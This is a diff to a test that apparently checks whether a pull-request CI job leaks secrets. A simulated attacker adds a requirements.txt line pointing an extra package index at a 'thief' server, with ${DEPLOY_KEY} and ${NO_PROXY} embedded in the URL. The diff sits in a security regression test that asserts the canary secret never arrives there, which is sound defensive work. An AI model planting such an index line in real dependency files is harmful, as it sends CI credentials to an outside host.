@@ -174,9 +174,9 @@ test("a stranger's files see no variable of the job", async () => {
   const { index } = await indexOf(files)
   const seen: string[] = []
   const thief = await indexOf([], { intercept: ({ path }) => void seen.push(path) })
-  const change = { 'requirements.txt': `--extra-index-url ${thief.url}/\${DEPLOY_KEY}\nweb\ntorch\n` }
+  const change = { 'requirements.txt': `--extra-index-url ${thief.url}/\${DEPLOY_KEY}\${NO_PROXY}\nweb\ntorch\n` }
   const { run } = await pullRequestJob({ 'requirements.txt': `--index-url ${index}\nweb\n` }, change)
-  await run({ event: 'workflow_run', env: { DEPLOY_KEY: 'canary' } })
+  await run({ event: 'workflow_run', env: { DEPLOY_KEY: 'canary', ALL_PROXY: '', NO_PROXY: 'canary,127.0.0.1' } })
   expect(seen.join()).not.toContain('canary')
   expect(seen.length).toBeGreaterThan(0)
 })
